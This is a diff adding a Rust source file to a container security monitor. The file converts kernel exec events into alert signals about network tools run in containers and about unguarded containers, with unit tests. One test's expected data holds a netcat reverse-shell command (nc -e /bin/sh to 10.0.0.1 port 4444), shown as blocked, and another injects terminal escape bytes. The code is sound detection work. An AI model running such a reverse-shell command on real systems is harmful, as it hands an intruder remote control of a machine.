@@ -1,0 +1,302 @@
+//! Signals from what the kernel and the shim say.
+
+use portcullis_bpf::abi::{Ancestor, Event, Hook, Verdict, flags, identified_by};
+use portcullis_policy::{
+    catalog, policyset,
+    record::{ContainerRecord, Guard},
+};
+use portcullis_proto::v1;
+
+use crate::{
+    clock::{BootOffset, timestamp},
+    containers::{Container, Image},
+    text,
+    tools::Tools,
+};
+
+/// An executed tool.
+pub const RULE_NET_UTIL: &str = "net_util_in_container";
+/// A container without guard.
+pub const RULE_UNGUARDED: &str = "container_unguarded";
+
+const CRI: &str = "io.kubernetes.cri.";
+
+/// The signal of an event. The container is `None` when it has no record.
+pub fn from_event(event: &Event, container: Option<&Container>, tools: &Tools, offset: BootOffset) -> v1::Signal {
+    let tool = tools.get(event.tool);
+    let record = container.map(|container| container.record.as_ref());
+    let verdict = verdict(event.verdict);
+    let argv: Vec<String> = event.argv.iter().map(|argument| text::lossy(argument)).collect();
+    let argv_truncated = event.flags & (flags::ARGV_TRUNCATED | flags::EVENT_REDUCED) != 0;
+    let at = |boot_ns| Some(timestamp(offset.wall_ns(boot_ns)));
+    let (tool_id, category) = match tool {
+        Some((tool, _)) => (tool.id.clone(), tool.category.clone()),
+        // The table in the kernel is newer than this catalogue.
+        None => (format!("tool-{}", event.tool), "unknown".to_owned()),
+    };
+    let done = match event.verdict {
+        Verdict::Detected => "executed",
+        Verdict::WouldBlock => "executed (enforce mode would block it)",
+        Verdict::Blocked => "blocked",
+        Verdict::Killed => "killed",
+    };
+    let place = match record {
+        Some(record) => text::escaped(&record.container_id),
+        None => format!("with cgroup {}", event.cgroup_id),
+    };
+    let command = text::command_line(argv.iter().map(String::as_str), argv_truncated);
+    v1::Signal {
+        id: 0,
+        rule: RULE_NET_UTIL.to_owned(),
+        severity: tool.map_or(v1::Severity::Medium, |(_, level)| severity(level)).into(),
+        verdict: verdict.into(),
+        time: at(event.time_ns),
+        message: format!("{tool_id} ({category}) {done} in container {place}: {command}"),
+        tool: Some(v1::Tool {
+            id: tool_id,
+            category,
+            techniques: tool.map(|(tool, _)| tool.techniques.clone()).unwrap_or_default(),
+        }),
+        identified_by: identifications(event.identified_by),
+        container: Some(match container {
+            Some(container) => container_message(container),
+            None => v1::Container { cgroup_id: event.cgroup_id, guarded: true, ..v1::Container::default() },
+        }),
+        process: Some(v1::Process {
+            pid: event.pid,
+            tid: event.tid,
+            container_pid: event.ns_pid,
+            uid: event.uid,
+            gid: event.gid,
+            invoked_name: text::lossy(&event.invoked),
+            filename: text::lossy(&event.filename),
+            filename_truncated: event.flags & flags::FILENAME_TRUNCATED != 0,
+            exe: text::lossy(&event.exe),
+            exe_truncated: event.flags & flags::EXE_TRUNCATED != 0,
+            argv,
+            argv_truncated,
+            argv_unconfirmed: event.flags & flags::ARGV_UNCONFIRMED != 0,
+            cwd: text::lossy(&event.cwd),
+            cwd_truncated: event.flags & flags::CWD_TRUNCATED != 0,
+            tty: text::lossy(&event.tty),
+            start_time: at(event.start_time_ns),
+            argc: event.argc,
+        }),
+        lineage: event.lineage.iter().map(|ancestor| ancestor_message(ancestor, offset)).collect(),
+        lineage_truncated: event.flags & (flags::LINEAGE_TRUNCATED | flags::EVENT_REDUCED) != 0,
+        origin: if event.flags & flags::EXEC_SESSION == 0 {
+            v1::Origin::Container.into()
+        } else {
+            v1::Origin::ExecSession.into()
+        },
+        policy: record.map(|record| record.policy.clone()).unwrap_or_default(),
+        backend: match event.hook {
+            Hook::BprmCheck | Hook::BprmCommitted => v1::Backend::Lsm.into(),
+            Hook::Tracepoint => v1::Backend::Tracepoint.into(),
+        },
+    }
+}
+
+/// The signal of a container that runs without its guard.
+pub fn unguarded(container: &Container, reason: &str) -> v1::Signal {
+    let record = &container.record;
+    v1::Signal {
+        rule: RULE_UNGUARDED.to_owned(),
+        severity: v1::Severity::High.into(),
+        time: Some(timestamp(record.created_ns)),
+        container: Some(container_message(container)),
+        policy: record.policy.clone(),
+        backend: backend(record.backend).into(),
+        message: format!(
+            "container {} runs without its guard: {}",
+            text::escaped(&record.container_id),
+            text::escaped(reason)
+        ),
+        ..v1::Signal::default()
+    }
+}
+
+/// A container as the API shows it, without its counters.
+pub fn container_message(container: &Container) -> v1::Container {
+    let record = &container.record;
+    let (guarded, unguarded_reason) = match &record.guard {
+        Guard::Guarded => (true, String::new()),
+        Guard::Unguarded { reason } => (false, reason.clone()),
+    };
+    v1::Container {
+        id: record.container_id.clone(),
+        containerd_namespace: record.containerd_namespace.clone(),
+        image: match &container.image {
+            Image::Known(image) => image.clone(),
+            _ => String::new(),
+        },
+        cgroup_id: record.cgroup_id,
+        pod: pod(record),
+        mode: mode(record.mode).into(),
+        policy: record.policy.clone(),
+        guarded,
+        unguarded_reason,
+        created: Some(timestamp(record.created_ns)),
+        ended: container.ended_ns.map(timestamp),
+        counters: None,
+        mode_reason: record.mode_reason.clone(),
+        backend: backend(record.backend).into(),
+    }
+}
+
+fn pod(record: &ContainerRecord) -> Option<v1::Pod> {
+    let annotation = |name: &str| record.annotations.get(&format!("{CRI}{name}")).cloned();
+    let (name, namespace) = (annotation("sandbox-name"), annotation("sandbox-namespace"));
+    if name.is_none() && namespace.is_none() {
+        return None;
+    }
+    Some(v1::Pod {
+        name: name.unwrap_or_default(),
+        namespace: namespace.unwrap_or_default(),
+        sandbox_id: annotation("sandbox-id").unwrap_or_default(),
+        container_name: annotation("container-name").unwrap_or_default(),
+    })
+}
+
+fn ancestor_message(ancestor: &Ancestor, offset: BootOffset) -> v1::Ancestor {
+    v1::Ancestor {
+        pid: ancestor.pid,
+        container_pid: ancestor.ns_pid,
+        uid: ancestor.uid,
+        exe: text::lossy(&ancestor.exe),
+        exe_truncated: ancestor.flags & flags::EXE_TRUNCATED != 0,
+        argv: ancestor.argv.iter().map(|argument| text::lossy(argument)).collect(),
+        argv_truncated: ancestor.flags & flags::ARGV_TRUNCATED != 0,
+        start_time: Some(timestamp(offset.wall_ns(ancestor.start_time_ns))),
+    }
+}
+
+fn identifications(bits: u32) -> Vec<i32> {
+    [
+        (identified_by::INVOKED_NAME, v1::Identification::InvokedName),
+        (identified_by::RESOLVED_NAME, v1::Identification::ResolvedName),
+    ]
+    .into_iter()
+    .filter(|(bit, _)| bits & bit != 0)
+    .map(|(_, identification)| identification.into())
+    .collect()
+}
+
+fn verdict(verdict: Verdict) -> v1::Verdict {
+    match verdict {
+        Verdict::Detected => v1::Verdict::Detected,
+        Verdict::WouldBlock => v1::Verdict::WouldBlock,
+        Verdict::Blocked => v1::Verdict::Blocked,
+        Verdict::Killed => v1::Verdict::Killed,
+    }
+}
+
+fn severity(severity: catalog::Severity) -> v1::Severity {
+    match severity {
+        catalog::Severity::Low => v1::Severity::Low,
+        catalog::Severity::Medium => v1::Severity::Medium,
+        catalog::Severity::High => v1::Severity::High,
+        catalog::Severity::Critical => v1::Severity::Critical,
+    }
+}
+
+/// A policy's mode as the API shows it.
+pub fn mode(mode: policyset::Mode) -> v1::Mode {
+    match mode {
+        policyset::Mode::Detect => v1::Mode::Detect,
+        policyset::Mode::Enforce => v1::Mode::Enforce,
+    }
+}
+
+/// A backend as the API shows it.
+pub fn backend(backend: Option<policyset::Backend>) -> v1::Backend {
+    match backend {
+        None => v1::Backend::Unspecified,
+        Some(policyset::Backend::Lsm) => v1::Backend::Lsm,
+        Some(policyset::Backend::Tracepoint) => v1::Backend::Tracepoint,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use std::sync::Arc;
+
+    use super::*;
+    use crate::{clock, testing};
+
+    fn container(cgroup_id: u64) -> Container {
+        let mut record = testing::record(cgroup_id, "c1");
+        record.annotations.insert(format!("{CRI}sandbox-name"), "web-1".into());
+        record.annotations.insert(format!("{CRI}sandbox-namespace"), "shop".into());
+        Container { record: Arc::new(record), image: Image::Known("alpine:3".into()), ended_ns: None }
+    }
+
+    fn tools() -> Tools {
+        Tools::new(catalog::Catalog::shipped().unwrap())
+    }
+
+    /// The kernel's id of a tool.
+    fn tool_id(tools: &Tools, id: &str) -> u32 {
+        tools.catalog().tools().iter().find(|tool| tool.id == id).unwrap().kernel_id()
+    }
+
+    #[test]
+    fn an_event_becomes_a_signal() {
+        let tools = tools();
+        let event = testing::event(42, tool_id(&tools, "nc"), 10);
+        let signal = from_event(&event, Some(&container(42)), &tools, BootOffset::now());
+        assert_eq!(signal.message, "nc (netcat) blocked in container c1: nc -e /bin/sh 10.0.0.1 4444");
+        assert_eq!(signal.rule, "net_util_in_container");
+        assert_eq!(signal.verdict(), v1::Verdict::Blocked);
+        assert_eq!(signal.backend(), v1::Backend::Lsm);
+        assert_eq!(signal.origin(), v1::Origin::Container);
+        assert_eq!(signal.identified_by, [1, 2]);
+        let container = signal.container.unwrap();
+        assert_eq!((container.id.as_str(), container.image.as_str(), container.guarded), ("c1", "alpine:3", true));
+        assert_eq!(container.pod.unwrap().namespace, "shop");
+        let process = signal.process.unwrap();
+        assert_eq!((process.pid, process.tid, process.container_pid, process.argc), (100, 101, 7, 5));
+        assert_eq!(signal.lineage[0].argv, ["sh", "-c", "x"]);
+        let boot_ns = BootOffset::now().wall_ns(0);
+        let time = u64::try_from(clock::from_timestamp(&signal.time.unwrap()).unwrap()).unwrap();
+        assert!(time.abs_diff(boot_ns) < 1_000_000_000);
+    }
+
+    #[test]
+    fn the_policy_may_give_another_severity() {
+        let tools = tools();
+        let nc = tool_id(&tools, "nc");
+        let severity = || from_event(&testing::event(42, nc, 10), None, &tools, BootOffset::now()).severity();
+        let before = severity();
+        tools.set_severities([(nc, catalog::Severity::Low)].into());
+        assert_eq!(severity(), v1::Severity::Low);
+        tools.set_severities([].into());
+        assert_eq!(severity(), before);
+    }
+
+    #[test]
+    fn hostile_bytes_stay_readable() {
+        let tools = tools();
+        let mut event = testing::event(42, u32::MAX, 10);
+        event.argv = vec![b"\xff\x1b[2J".to_vec(), b"a b".to_vec()];
+        event.flags = flags::ARGV_TRUNCATED | flags::EXEC_SESSION;
+        let signal = from_event(&event, None, &tools, BootOffset::now());
+        assert_eq!(
+            signal.message,
+            format!("tool-{} (unknown) blocked in container with cgroup 42: \u{fffd}\\u{{1b}}[2J 'a b' …", u32::MAX)
+        );
+        assert_eq!(signal.process.unwrap().argv[0], "\u{fffd}\x1b[2J");
+        assert_eq!(signal.origin, i32::from(v1::Origin::ExecSession));
+    }
+
+    #[test]
+    fn an_unguarded_container_becomes_a_signal() {
+        let mut record = testing::record(0, "c1");
+        record.guard = Guard::Unguarded { reason: "no cgroup\n".into() };
+        let container = Container { record: Arc::new(record), image: Image::None, ended_ns: None };
+        let signal = unguarded(&container, "no cgroup\n");
+        assert_eq!(signal.message, "container c1 runs without its guard: no cgroup\\n");
+        assert_eq!(signal.severity(), v1::Severity::High);
+        assert!(!signal.container.unwrap().guarded);
+    }
+}
